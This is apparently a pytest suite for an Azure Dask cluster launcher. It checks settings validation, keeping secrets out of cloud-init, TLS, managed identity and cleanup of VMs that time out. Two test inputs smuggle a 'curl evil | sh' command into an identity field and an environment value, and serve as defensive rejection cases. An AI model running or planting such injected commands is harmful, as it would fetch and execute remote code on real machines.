"""Kind ``azure``: settings refused up front, and AzureVMCluster built offline through its real constructor.

Only Azure's management clients are replaced (by ``fake_azure``); the cluster,
its VM classes, the cloud-init and TLS are dask-cloudprovider's and ours.
"""

import asyncio
import base64
import json
import os
import re
import subprocess
import sys
import time
from collections import namedtuple
from pathlib import Path

import dask.config
import pytest
import yaml

from cluster import azure
from cluster.clusters import open_cluster
from cluster.config import worker_environ

SECRET = "c2VjcmV0LWtleQ+/=="
IDENTITY = ("/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/fleet-rg/providers/"
            "Microsoft.ManagedIdentity/userAssignedIdentities/fleet-id")
REQUIRED = {"subscription_id": "00000000-0000-0000-0000-000000000000", "location": "westeurope",
            "resource_group": "fleet-rg", "vnet": "fleet-vnet", "security_group": "fleet-nsg",
            "identity": IDENTITY}
# What a flow's environment may hold: the defaults must put none of it but the account name on a VM.
FLOW_ENV = {"AZURE_STORAGE_ACCOUNT_NAME": "fleet", "AZURE_STORAGE_ACCOUNT_KEY": SECRET,
            "AZURE_STORAGE_CONNECTION_STRING": f"AccountName=fleet;AccountKey={SECRET}",
            "AZURE_CLIENT_SECRET": SECRET}


def settings(**overrides):
    return azure.azure_settings(REQUIRED | overrides)


@pytest.mark.parametrize(
    "overrides, message",
    [
        ({"subscription_id": None}, "needs subscription-id.*CLUSTER__AZURE__SUBSCRIPTION_ID"),
        ({"vnet": None, "security_group": None}, "needs vnet, security-group"),
        ({"docker_image": "fleetscore.azurecr.io/fleetscore:latest"}, "no pinned tag"),
        ({"docker_image": "fleetscore.azurecr.io/fleetscore"}, "no pinned tag"),
        ({"docker_image": "registry:5000/fleetscore"}, "no pinned tag"),
        ({"disk_size": 2048}, "disk-size 2048 GiB is impossible"),
        ({"bootstrap": False}, "bootstrap false needs a VM image with Docker"),
        ({"tags": {"team/owner": "x"}}, "not a valid Azure tag"),
        ({"identity": None}, "needs identity"),
        ({"identity": "fleet-id"}, "not a user-assigned identity's resource id"),
        ({"identity": IDENTITY + ";curl evil|sh"}, "not a user-assigned identity's resource id"),
        ({"extra_vm_options": {"identity": {"type": "SystemAssigned"}}}, "remove it from extra-vm-options"),
        ({"forward_env": ["AZURE_STORAGE_ACCOUNT_KEY"]}, "AZURE_STORAGE_ACCOUNT_KEY: root on any VM.*allow-keys"),
        ({"forward_env": ["AZURE_STORAGE_CONNECTION_STRING"]}, "lists AZURE_STORAGE_CONNECTION_STRING"),
        ({"docker_image": "daskdev/dask:2025.9.0"}, "names no private registry.*registry-login"),
    ],
)
def test_impossible_azure_settings_are_refused_before_anything_starts(overrides, message, child_pids):
    before = child_pids()
    with pytest.raises(ValueError, match=message):
        with open_cluster("azure", **(REQUIRED | overrides)):
            pytest.fail("nothing may start")
    assert child_pids() == before


def test_settings_from_environment_variables_as_the_readme_writes_them_are_read():
    # A fresh interpreter: dask reads DASK_* variables at import, before our defaults are merged.
    names = {f"DASK_FLEETSCORE__CLUSTER__AZURE__{k.upper()}": str(v) for k, v in REQUIRED.items()}
    shown = subprocess.run(
        [sys.executable, "-c", "from cluster import azure; s = azure.azure_settings(); azure.check(s); "
                               "print(s['subscription-id'], s['resource-group'], s['security-group'])"],
        env=os.environ | names, capture_output=True, text=True, check=True).stdout.split()
    assert shown == [REQUIRED["subscription_id"], REQUIRED["resource_group"], REQUIRED["security_group"]]


def test_the_default_image_is_this_project_at_its_version():
    assert azure.docker_image(settings()) == "fleetscore.azurecr.io/fleetscore:0.1.0"
    assert azure.docker_image(settings(docker_image="r.io/f@sha256:" + "0" * 64)).endswith("0" * 64)
    azure.check(settings(docker_image="r.io/f@sha256:" + "0" * 64))


def test_keys_and_public_images_are_possible_when_asked_for():
    azure.check(settings(forward_env=["AZURE_STORAGE_ACCOUNT_KEY"], allow_keys_on_vms=True))
    azure.check(settings(docker_image="daskdev/dask:2025.9.0", registry_login=False))
    keywords = azure.cluster_keywords(settings(registry_login=False), {})
    assert keywords["extra_bootstrap"] == []


def test_only_set_variables_are_forwarded_and_unquotable_ones_are_refused_by_name():
    names = ["AZURE_STORAGE_ACCOUNT_NAME", "AZURE_STORAGE_ACCOUNT_KEY", "AZURE_STORAGE_SAS_TOKEN"]
    env = {"AZURE_STORAGE_ACCOUNT_NAME": "fleet", "AZURE_STORAGE_ACCOUNT_KEY": SECRET, "OTHER": "x"}
    assert azure.forwarded_env(names, env) == {"AZURE_STORAGE_ACCOUNT_NAME": "fleet",
                                               "AZURE_STORAGE_ACCOUNT_KEY": SECRET}
    with pytest.raises(ValueError, match="AZURE_STORAGE_ACCOUNT_KEY contain") as refused:
        azure.forwarded_env(names, {"AZURE_STORAGE_ACCOUNT_KEY": 'a"; curl evil | sh; "'})
    assert "curl" not in str(refused.value)


def cloud_init(vm_parameters: dict) -> dict:
    return yaml.safe_load(base64.b64decode(vm_parameters["os_profile"]["custom_data"]))


CONTAINER_ENV = [*worker_environ(), "AZURE_STORAGE_ACCOUNT_NAME"]
"""What a VM's container gets by default: the workers' allocator and thread settings and a name, no secret."""


def docker_line(init: dict) -> str:
    [line] = [c for c in init["runcmd"] if isinstance(c, str) and c.startswith("docker run")]
    return line


def inherited_config(command: str) -> dict:
    """The dask config dask-cloudprovider hands to the container (DASK_INTERNAL_INHERIT_CONFIG)."""
    encoded = command.split('DASK_INTERNAL_INHERIT_CONFIG="', 1)[1].split('"', 1)[0]
    return dask.config.deserialize(encoded)


def test_the_rendered_cloud_init_of_the_defaults_holds_the_login_and_no_key():
    init = yaml.safe_load(azure.rendered_cloud_init(settings(), FLOW_ENV))
    assert env_names(docker_line(init)) == CONTAINER_ENV
    assert SECRET not in json.dumps(init)
    assert_registry_login_before_the_container(init)
    assert not dask.config.get("distributed.comm.require-encryption", False)


def test_adlfs_in_a_container_with_the_default_environment_reads_through_the_vm_identity():
    # The container's environment exactly as the cloud-init's docker run line sets it, in a fresh
    # interpreter: adlfs must choose DefaultAzureCredential, whose chain asks the VM's identity (IMDS).
    line = docker_line(yaml.safe_load(azure.rendered_cloud_init(settings(), FLOW_ENV)))
    container_env = dict(re.findall(r' -e (\w+)="([^"]*)"', line))
    chosen = subprocess.run(
        [sys.executable, "-c", "from adlfs import AzureBlobFileSystem as A; fs = A(skip_instance_cache=True); "
                               "print(fs.account_url, fs.account_key, fs.sas_token, *(type(c).__name__ "
                               "for c in fs.sync_credential.credentials))"],
        env={"PATH": os.environ["PATH"], **container_env}, capture_output=True, text=True, check=True).stdout.split()
    assert chosen[:3] == ["https://fleet.blob.core.windows.net", "None", "None"]
    assert "ManagedIdentityCredential" in chosen[3:]


def env_names(docker_run: str) -> list[str]:
    """The names of the variables a ``docker run`` line sets (``-e NAME="value"``)."""
    return re.findall(r' -e (\w+)=', docker_run)


def assert_registry_login_before_the_container(init: dict) -> None:
    """The cloud-init logs Docker in to the registry with the identity, then runs the container."""
    commands = [c for c in init["runcmd"] if isinstance(c, str)]
    [login] = [i for i, c in enumerate(commands) if "| python3 - " in c]
    assert login < commands.index(docker_line(init))
    encoded, args = commands[login].removeprefix("echo ").split(" | base64 -d | python3 - ")
    assert base64.b64decode(encoded) == Path(azure.__file__).with_name("acr_login.py").read_bytes()
    assert args.split() == ["fleetscore.azurecr.io", IDENTITY]


Started = namedtuple("Started", "cluster worker_init logged seconds")


@pytest.fixture
def offline_start(fake_azure, caplog, capsys, request):
    """Start an AzureRunCluster inside a running loop against the fake; return what it did.

    Settings are the defaults, or these with the overrides given as the fixture's ``param``.
    """
    caplog.set_level("DEBUG")
    chosen = settings(**getattr(request, "param", {}))
    azure.check(chosen)

    async def start():
        with azure.restored_dask_config():
            cluster = azure.AzureRunCluster(
                run_tags=azure.run_tags({"app": "fleetscore"}, "run-123"), start_timeout=3,
                asynchronous=True,
                **azure.cluster_keywords(chosen, azure.vm_env(chosen, FLOW_ENV)))
            cluster.compute_client = cluster.network_client = fake_azure  # the network boundary
            started = time.monotonic()
            with pytest.raises(TimeoutError, match="scheduler did not come up within 3s"):
                await cluster
            seconds = time.monotonic() - started
            worker = cluster.worker_class("tls://192.0.2.10:8786", **cluster.worker_options)
            return cluster, cluster.render_process_cloud_init(worker), seconds

    cluster, worker_init, seconds = asyncio.run(asyncio.wait_for(start(), 60))
    out = capsys.readouterr()
    return Started(cluster, worker_init, caplog.text + out.out + out.err, seconds)


def test_the_scheduler_vm_runs_our_image_with_tls_and_its_identity_and_no_key(offline_start, fake_azure):
    cluster = offline_start.cluster
    [(_, vm_name, vm)] = [c for c in fake_azure.created if c[0] == "virtual_machines"]
    init = cloud_init(vm)
    line = docker_line(init)
    assert " fleetscore.azurecr.io/fleetscore:0.1.0 " in line and ":latest" not in line
    assert env_names(line) == CONTAINER_ENV and '-e AZURE_STORAGE_ACCOUNT_NAME="fleet"' in line
    assert SECRET not in json.dumps(vm) and SECRET not in json.dumps(init)
    assert vm["identity"] == {"type": "UserAssigned", "user_assigned_identities": {IDENTITY: {}}}
    assert_registry_login_before_the_container(init)
    assert "distributed.cli.dask_scheduler" in line
    tls = inherited_config(line)["distributed"]["comm"]
    assert tls["require-encryption"] is True
    assert tls["tls"]["ca-file"].startswith("-----BEGIN CERTIFICATE")
    assert cluster.protocol == "tls"
    assert not any("shutdown" in str(c) for c in init["runcmd"])  # a VM shut down from inside stays billed
    assert vm["hardware_profile"]["vm_size"] == "Standard_B2s"
    assert vm["storage_profile"]["image_reference"]["sku"] == "22_04-lts-gen2"
    assert vm["storage_profile"]["os_disk"]["disk_size_gb"] == 30


def test_a_worker_vm_joins_over_tls_with_our_worker_options_and_no_key(offline_start):
    init = yaml.safe_load(offline_start.worker_init)
    line = docker_line(init)
    assert " fleetscore.azurecr.io/fleetscore:0.1.0 " in line
    assert env_names(line) == CONTAINER_ENV and SECRET not in offline_start.worker_init
    assert '-e MALLOC_TRIM_THRESHOLD_="67108864"' in line  # the Nanny on the VM reads no fleetscore.yaml
    assert offline_start.cluster.worker_options["extra_vm_options"]["identity"]["user_assigned_identities"] == {
        IDENTITY: {}}
    assert_registry_login_before_the_container(init)
    spec = json.loads(line.split("--spec '", 1)[1].rsplit("'", 1)[0])
    assert spec["cls"] == "dask.distributed.Nanny"
    assert spec["opts"]["nthreads"] == 2 and spec["opts"]["memory_limit"] == "7GiB"
    assert "distributed.cli.dask_spec tls://192.0.2.10:8786" in line


def test_every_resource_is_tagged_with_the_flow_run_and_no_public_ip_is_made(offline_start, fake_azure):
    cluster = offline_start.cluster
    kinds = {kind for kind, _, _ in fake_azure.created}
    assert kinds == {"network_interfaces", "virtual_machines"}
    for _, _, parameters in fake_azure.created:
        assert parameters["tags"]["fleetscore-flow-run"] == "run-123"
        assert parameters["tags"]["app"] == "fleetscore"
        assert parameters["tags"]["cluster-id"] == cluster.uuid
        assert parameters["tags"]["fleetscore-created"].endswith("Z")


def test_a_scheduler_vm_that_never_answers_is_deleted_with_its_disk_and_nic(offline_start, fake_azure):
    assert offline_start.seconds < 10  # a start timeout, not dask-cloudprovider's endless wait
    assert {kind for kind, _ in fake_azure.deleted} == {"virtual_machines", "disks", "network_interfaces"}
    assert all(fake_azure.resources[k] == {} for k in ("virtual_machines", "disks", "network_interfaces"))


@pytest.mark.parametrize("offline_start", [{"forward_env": ["AZURE_STORAGE_ACCOUNT_KEY"], "allow_keys_on_vms": True}],
                         indirect=True)
def test_keys_allowed_on_vms_are_forwarded_but_never_logged_and_global_config_is_restored(offline_start):
    cluster, logged = offline_start.cluster, offline_start.logged
    assert f'-e AZURE_STORAGE_ACCOUNT_KEY="{SECRET}"' in offline_start.worker_init  # forwarded as asked
    assert "Creating VM" in logged  # dask-cloudprovider's progress was captured
    assert SECRET not in logged
    assert SECRET not in repr(cluster) and SECRET not in str(cluster)
    assert dask.config.get("distributed.comm.require-encryption") in (None, False)


def test_open_cluster_azure_times_out_deletes_its_vm_and_restores_config(fake_azure, monkeypatch):
    # The synchronous path a flow takes, with Azure's client classes answering from the fake.
    from dask_cloudprovider.azure import azurevm

    monkeypatch.setattr(azurevm, "ComputeManagementClient", lambda credential, sub: fake_azure)
    monkeypatch.setattr(azurevm, "NetworkManagementClient", lambda credential, sub: fake_azure)
    started = time.monotonic()
    with pytest.raises(TimeoutError, match="AzureRunCluster scheduler did not come up within 2s"):
        with open_cluster("azure", start_timeout=2, **REQUIRED):
            pytest.fail("no scheduler can have answered")
    assert time.monotonic() - started < 10
    assert [kind for kind, _, _ in fake_azure.created] == ["network_interfaces", "virtual_machines"]
    assert all(fake_azure.resources[k] == {} for k in ("virtual_machines", "disks", "network_interfaces"))
    assert not dask.config.get("distributed.comm.require-encryption", False)
